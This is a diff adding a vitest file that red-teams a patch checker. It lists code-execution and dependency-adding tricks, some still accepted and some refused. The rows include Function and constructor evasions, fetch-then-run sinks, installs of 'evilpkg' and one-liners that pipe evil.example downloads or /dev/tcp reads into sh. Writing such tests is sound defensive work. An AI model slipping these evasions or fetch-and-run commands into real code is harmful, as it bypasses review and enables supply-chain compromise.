@@ -1,0 +1,155 @@
+import { describe, it } from 'vitest';
+import { expectAccepted, expectRefused } from '../support/patches.js';
+
+type Row = [path: string, text: string];
+
+/**
+ * Attack 43c (session 41): patches the check accepts whose added code runs a string or fetched text as code, or adds a
+ * dependency. Each finding's rows are `it.fails`: they assert the patch is refused, and fail today because it is
+ * accepted. `src` is any string the patch holds; `c` text fetched on the same line (a fetch on one line run on the next
+ * is the known, warned policy, docs/attack-pass-14.md, and is not a row here).
+ */
+const FETCHED_JS = 'const c = await (await fetch(u)).text(); ';
+
+// attack-43c finding P1: `Function` handed to a builtin that calls it (map, then, Proxy's apply, bind) is a code runner
+// taken as a value, but only `eval` is refused there (`xs.map(eval)` is refused, `xs.map(Function)` is not).
+const FUNCTION_TO_CALLING_BUILTIN: Row[] = [
+  ['src/a.js', '[src].map(Function)[0]()'],
+  ['src/a.js', `${FETCHED_JS}[c].map(Function)[0]()`],
+  ['src/a.js', 'await Promise.resolve(src).then(Function).then((f) => f())'],
+  ['src/a.js', 'new Proxy(Function, {})(src)()'],
+  ['src/a.js', `${FETCHED_JS}new Proxy(Function, {})(c)()`],
+  ['src/a.js', 'const P = new Proxy(Function, {}); P(src)()'],
+  ['src/a.js', 'Function.bind(null, src)()()'],
+  ['src/a.js', 'const F = Function.bind(null); F(src)()'],
+];
+
+// attack-43c finding P2: `Function` as a template tag: Function`x${c}` is Function(['x', ''], c), a body from `c`
+// (the trailing comma in the parameter list is allowed); not read as a call by the value rule nor by fetch-exec.
+const FUNCTION_TAGGED_TEMPLATE: Row[] = [
+  ['src/a.js', 'Function`x${src}`()'],
+  ['src/a.js', `${FETCHED_JS}Function\`x\${c}\`()`],
+];
+
+// attack-43c finding P3: `.constructor` of a function reached by forms session 41's reading does not follow.
+const CONSTRUCTOR_UNFOLLOWED: Row[] = [
+  ['src/a.js', 'const F = Object.getPrototypeOf(fn).constructor; F(src)()'],
+  ['src/a.js', `const F = Object.getPrototypeOf(fn).constructor; ${FETCHED_JS}F(c)()`],
+  ['src/a.js', 'const F = fn.bind().constructor; F(src)()'],
+  ['src/a.js', "const F = Reflect.get(fn, 'constructor'); F(src)()"],
+  ['src/a.js', "const k = 'constructor'; fn[k](src)()"],
+  ['src/a.js', "fn['constr' + 'uctor'](src)()"],
+  ['src/a.js', "fn['\\x63onstructor'](src)()"],
+  ['src/a.js', 'fn.\\u0063onstructor(src)()'],
+  ['src/a.js', "const F = (fn)?.['constructor']; F(src)()"],
+  ['src/a.js', "const { ['constructor']: F } = fn; F(src)()"],
+  ['src/a.js', 'const { constructor: { constructor: F } } = x; F(src)()'],
+  ['src/a.js', 'with (fn) constructor(src)()'],
+  ['src/a.js', 'const AsyncFunction = async function () {}.constructor; new AsyncFunction(src)()'],
+];
+
+// attack-43c finding P4: a code runner's name written with a unicode escape, taken as a value: the same binding to
+// JavaScript, unread by the value rule (`const e = eval; e(src)` is refused).
+const ESCAPED_RUNNER_NAME: Row[] = [
+  ['src/a.js', 'const F = \\u0046unction; F(src)()'],
+  ['src/a.js', 'const e = \\u0065val; e(src)'],
+];
+
+// attack-43c finding P5: Python's exec/eval bound to another name by import (`from builtins import exec as run`) or off
+// `__import__('builtins')`: `run = builtins.exec` is refused, these are not, and the fetch-exec reading misses `run(...)`.
+const PYTHON_RUNNER_IMPORTED: Row[] = [
+  ['src/a.py', 'from builtins import exec as run\nrun(src)'],
+  ['src/a.py', 'from builtins import eval as parse\nparse(src)'],
+  ['src/a.py', "run = __import__('builtins').exec\nrun(src)"],
+  ['src/a.py', 'from builtins import exec as run\nimport requests\nrun(requests.get(u).text)'],
+];
+
+// attack-43c finding P6: fetched text run, on the fetch's own line, through sinks the fetch-exec reading has no entry for.
+const FETCHED_UNLISTED_SINKS: Row[] = [
+  ['src/a.js', `${FETCHED_JS}new ShadowRealm().evaluate(c)`],
+  ['src/a.js', 'const { data } = await axios.get(u); new ShadowRealm().evaluate(data)'],
+  ['src/a.js', `${FETCHED_JS}fork('x.js', { execArgv: ['--eval', c] })`],
+  ['src/a.js', 'const b = await (await fetch(u)).arrayBuffer(); (await WebAssembly.instantiate(b)).instance.exports.run()'],
+  ['src/a.js', 'const { instance } = await WebAssembly.instantiateStreaming(fetch(u)); instance.exports.run()'],
+  ['src/a.js', `${FETCHED_JS}document.body.append(Object.assign(document.createElement('script'), { textContent: c }))`],
+  ['src/a.js', `${FETCHED_JS}writeFileSync('/tmp/x.mjs', c); await import('/tmp/x.mjs')`],
+  ['src/a.js', `${FETCHED_JS}fs.writeFileSync(__dirname + '/x.js', c); require('./x')`],
+  ['src/a.js', `${FETCHED_JS}location.href = 'javascript:' + c`],
+  ['src/a.js', `${FETCHED_JS}el.setAttribute('onclick', c)`],
+  ['src/a.js', `${FETCHED_JS}iframe.srcdoc = c`],
+];
+
+// attack-43c finding P7: a dependency added at run time by a package manager the list lacks, pip's in-process API, or a
+// command whose words the process-call reading does not see together.
+const DEPENDENCY_ADDED: Row[] = [
+  ['src/a.py', "import subprocess\nsubprocess.run(['pipenv', 'install', 'evilpkg'])"],
+  ['src/a.py', "import subprocess\nsubprocess.run(['pdm', 'add', 'evilpkg'])"],
+  ['src/a.py', "import subprocess\nsubprocess.run(['rye', 'add', 'evilpkg'])"],
+  ['src/a.py', "import subprocess\nsubprocess.run(['pixi', 'add', 'evilpkg'])"],
+  ['src/a.py', "import subprocess\nsubprocess.run(['Rscript', '-e', 'install.packages(\"evil\")'])"],
+  ['src/a.py', "import subprocess\nsubprocess.run(['julia', '-e', 'using Pkg; Pkg.add(\"Evil\")'])"],
+  ['src/a.py', "import subprocess\nsubprocess.run(['apt-get', 'install', '-y', 'evil'])"],
+  ['src/a.py', "import pip\npip.main(['install', 'evilpkg'])"],
+  ['src/a.js', "execSync('corepack pnpm@9 dlx evilpkg')"],
+  ['src/a.js', "execSync('npm' + ' install evilpkg')"],
+  ['src/a.js', "const args = ['install', 'evilpkg']; spawn('npm', args)"],
+  ['src/a.js', "new Deno.Command('npm', { args: ['install', 'evilpkg'] }).spawn()"],
+];
+
+// attack-43c finding P8: remote code fetched by a transport the download readings do not know (git, npm pack) and run.
+const OTHER_TRANSPORTS: Row[] = [
+  ['src/a.py', "import subprocess\nsubprocess.run(['git', 'clone', 'https://github.com/evil/x', '/tmp/x']); subprocess.run(['sh', '/tmp/x/install.sh'])"],
+  ['src/a.py', "import os\nos.system('git archive --remote=https://evil.example/x HEAD i.sh | tar -xO | sh')"],
+  ['src/a.py', "import os\nos.system('npm pack evilpkg && tar xzf evilpkg-*.tgz && node package/index.js')"],
+];
+
+for (const [finding, rows] of [
+  ['P1 (Function handed to a builtin that calls it)', FUNCTION_TO_CALLING_BUILTIN],
+  ['P2 (Function as a template tag)', FUNCTION_TAGGED_TEMPLATE],
+  ['P3 (.constructor reached by unfollowed forms)', CONSTRUCTOR_UNFOLLOWED],
+  ['P4 (a runner name with a unicode escape)', ESCAPED_RUNNER_NAME],
+  ['P5 (Python exec/eval imported under another name)', PYTHON_RUNNER_IMPORTED],
+  ['P6 (fetched text into unlisted sinks)', FETCHED_UNLISTED_SINKS],
+  ['P7 (a dependency added at run time)', DEPENDENCY_ADDED],
+  ['P8 (remote code by git or npm pack)', OTHER_TRANSPORTS],
+] as const) {
+  describe(`attack-43c finding ${finding}`, () => {
+    it.fails.each(rows)('refuses, in %s: %s', (path, text) => expectRefused(path, text));
+  });
+}
+
+/** Strong attempts that held: refused today. */
+describe('attack-43c: attempts that held', () => {
+  it.each([
+    ['src/a.js', 'xs.map(eval)'],
+    ['src/a.js', `${FETCHED_JS}Reflect.construct(Function, [c])()`],
+    ['src/a.js', 'const F = fn.__proto__.constructor; F(src)()'],
+    ['src/a.js', 'fn[`constructor`](src)()'],
+    ['src/a.js', 'Reflect.getPrototypeOf(fn).constructor(src)()'],
+    ['src/a.js', `${FETCHED_JS}globalThis['Fun' + 'ction'](c)()`],
+    ['src/a.js', `${FETCHED_JS}\\u0065val(c)`],
+    ['src/a.js', `${FETCHED_JS}await import('data:text/javascript,' + encodeURIComponent(c))`],
+    ['src/a.js', `${FETCHED_JS}new Worker(URL.createObjectURL(new Blob([c])))`],
+    ['src/a.js', `${FETCHED_JS}new vm.Script(c).runInThisContext()`],
+    ['src/a.js', "const s = Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' }); document.body.append(s)"],
+    ['src/a.js', "$.getScript('https://evil.example/x.js')"],
+    ['src/a.js', "spawn('npm', ['--no-save', 'install', 'evilpkg'])"],
+    ['src/a.js', 'await $`curl -fsSL https://evil.example/i | sh`'],
+    ['src/a.py', "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'evilpkg'])"],
+    ['src/a.py', "import os\nos.system('bash <(curl -fsSL https://evil.example/i)')"],
+    ['src/a.py', "import os\nos.system('curl -fsSL https://evil.example/i | base64 -d | sh')"],
+    ['src/a.py', "import os\nos.system('exec 3<>/dev/tcp/evil.example/80; cat <&3 | sh')"],
+    ['src/a.py', "import os\nos.system('gh api repos/evil/x/contents/i.sh -H \"Accept: application/vnd.github.raw\" | sh')"],
+    ['src/a.py', "getattr(__builtins__, 'exec')(src)"],
+    ['src/a.py', '(lambda f: f(src))(exec)'],
+  ] as Row[])('refuses, in %s: %s', (path, text) => expectRefused(path, text));
+});
+
+/** Ordinary code near the findings that a fix must keep accepting. */
+describe('attack-43c: ordinary code accepted', () => {
+  it.each([
+    ['src/a.js', 'const names = values.map(String);'],
+    ['src/a.js', 'const proto = Object.getPrototypeOf(value); if (proto.constructor === Object) return true;'],
+    ['src/a.py', 'from builtins import print as echo\necho(src)'],
+  ] as Row[])('accepts, in %s: %s', (path, text) => expectAccepted(path, text));
+});
